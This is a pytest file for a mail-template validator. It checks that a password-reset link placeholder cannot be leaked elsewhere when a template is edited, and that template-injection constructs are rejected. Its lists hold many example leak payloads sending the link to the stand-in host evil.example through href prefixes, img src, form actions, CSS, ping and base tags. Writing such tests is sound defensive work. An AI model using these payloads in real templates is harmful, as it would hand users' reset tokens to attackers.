"""The link of a mail stands alone, so that whoever edits a text cannot send its secret elsewhere; what else is refused is
said by its line."""

import re

import pytest

from customer_gql.core.errors import RuleError
from customer_gql.core.messages.catalogues import LANGUAGES
from customer_gql.messaging.mail.kinds import MAIL_KINDS
from customer_gql.messaging.mail.texts.rules import validate_template_text

RESET = "password_reset"
ALLOWED_HTML = [
    '<p>Go to <b>{{ link }}</b> now, or <a href="{{ link }}">{{ link }}</a>.</p>',
    '<p>Hello,</p><p><a href="{{ link }}">Choose</a></p>',
    "<a href='{{ link }}'>Choose</a>",
    "<p>{{ link }}</p>",
    '{% if firstName %}<p>{{ link }}</p>{% else %}<a class="b" href="{{ link }}">x</a>{% endif %}',
    '{% if link %}<img alt="" src="https://shop.example.com/logo.png" width="10"><br/>{% endif %} {{ link }} ',
]
LEAKING_HTML = [
    '<a href="https://evil.example/?{{ link }}">x</a>',
    '<a href="{{ link }}.evil.example">x</a>',
    '<a href="{{ link }}{{ firstName }}">x</a>',
    "<a href={{ link }}>x</a>",
    '<img src="{{ link }}">',
    '<a title="{{ link }}">x</a>',
    "https://evil.example/{{ link }}",
    "{{ firstName }}{{ link }}",
    "https://evil.example/?<b>{{ link }}</b>",
    "https://evil.example/?<b></b>{{ link }}",
    "https://evil.example/<span><i>{{ link }}</i></span>",
    "<b>{{ link }}</b>.evil.example",
    "<img src='https://evil.example/?x= <p>{{ link }}</p> <i title='x'>",
    "<img src='https://evil.example/?x= {{ link }} ",
    '<form action="https://evil.example"><input value="{{ link }}"></form>',
    '<form action="https://evil.example"><textarea name="x">{{ link }}</textarea></form>',
    '<style>a[href*=a]{background:url(https://evil.example)}</style><a href="{{ link }}">x</a>',
    '<a href="{{ link }}" ping="https://evil.example">x</a>',
    '<a href="{{ link }}" onclick="x()">x</a>',
    "<!-- {{ link }} -->",
    "<script>x = '{{ link }}'</script>",
    '<base href="https://evil.example"><a href="{{ link }}">x</a>',
    '<a href="{% if firstName %}https://evil.example/{% endif %}{{ link }}">x</a>',
    '<a href="https://evil.example/{% if firstName %}{{ link }}{% endif %}">x</a>',
    '<a href="{% if firstName %}https://evil.example/ {{ link }}{% endif %}">x</a>',
    '<img alt="{% if firstName %}" src=\'https://evil.example/?{% endif %}"> {{ link }} <i title="\'">x</i>',
    '{% if firstName %}<a href="https://evil.example/{% endif %}{{ link }}">x</a>',
]
LEAKING_ANYWHERE = [
    "https://evil.example/{{ link }}",
    "{{ link }}@evil.example",
    "{% if firstName %}https://evil.example/{% endif %}{{ link }}",
    "https://evil.example/{% if firstName %}{{ link }}{% endif %}",
    "{{ link|upper }}",
    "{{ link|default('x') }}",
    "{{ firstName|default(link) }}",
    "{{ 'https://evil.example' if firstName else link }}",
    "{% if link == 'a' %}x{% endif %}",
    "{% if not link %}x{% elif firstName == link %}y{% endif %} {{ link }}",
    "{% if firstName %}{% if expiresAt %}x{{ link }}{% endif %}{% endif %}",
]


@pytest.mark.parametrize("text", ALLOWED_HTML)
def test_a_whole_attribute_and_a_word_are_allowed(text):
    validate_template_text(MAIL_KINDS[RESET], "html", text)


@pytest.mark.parametrize("text", ["{{ link }}", "Go to {{ link }}\nnow", "{% if link %}\n{{ link }}\n{% endif %}"])
def test_a_word_is_allowed_in_plain_text(text):
    validate_template_text(MAIL_KINDS[RESET], "text", text)


@pytest.mark.parametrize("kind", [RESET, "staff_invitation"])
@pytest.mark.parametrize("text", LEAKING_HTML)
def test_html_in_which_the_link_could_lead_elsewhere_is_refused(text, kind):
    text = text.replace("firstName", "name") if kind == "staff_invitation" else text
    with pytest.raises(RuleError):
        validate_template_text(MAIL_KINDS[kind], "html", text)


@pytest.mark.parametrize("part", ["html", "text", "subject"])
@pytest.mark.parametrize("text", LEAKING_ANYWHERE)
def test_a_link_that_is_not_alone_is_refused(text, part):
    with pytest.raises(RuleError):
        validate_template_text(MAIL_KINDS[RESET], part, text)


def test_a_text_without_the_link_may_have_any_html():
    validate_template_text(MAIL_KINDS["welcome"], "html", "<style>p{color:red}</style><!-- x --><p>a < b</p>")


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("Hi\n{{ firstName", "mail_template.syntax_error"),
        ("Hi\n{% if %}", "mail_template.syntax_error"),
        ("Hi\n{% if firstName %}", "mail_template.syntax_error"),
        ("Hi\n{% sudo %}", "mail_template.syntax_error"),
        ("Hi\n{% raw %}x", "mail_template.syntax_error"),
        ("Hi\n{{ firstName.__class__ }}", "mail_template.construct_not_allowed"),
        ("Hi\n{{ range(9) }}", "mail_template.construct_not_allowed"),
        ("Hi\n{{ 1 + 1 }}", "mail_template.construct_not_allowed"),
        ("Hi\n{% set x = 1 %}", "mail_template.construct_not_allowed"),
    ],
)
def test_a_refusal_names_the_line_in_the_language_of_the_caller(text, key, language):
    with pytest.raises(RuleError) as refused:
        validate_template_text(MAIL_KINDS["welcome"], "text", text)
    assert (refused.value.key, refused.value.path, refused.value.params) == (key, ["text"], {"line": 2})
    message = refused.value.message_in(language)
    assert {"en": "line 2", "de": "Zeile 2", "nl": "regel 2", "sv": "rad 2"}[language] in message
    assert not re.search("getattr|call|add|assign|expected|block|tag|print|sudo|raw", message)
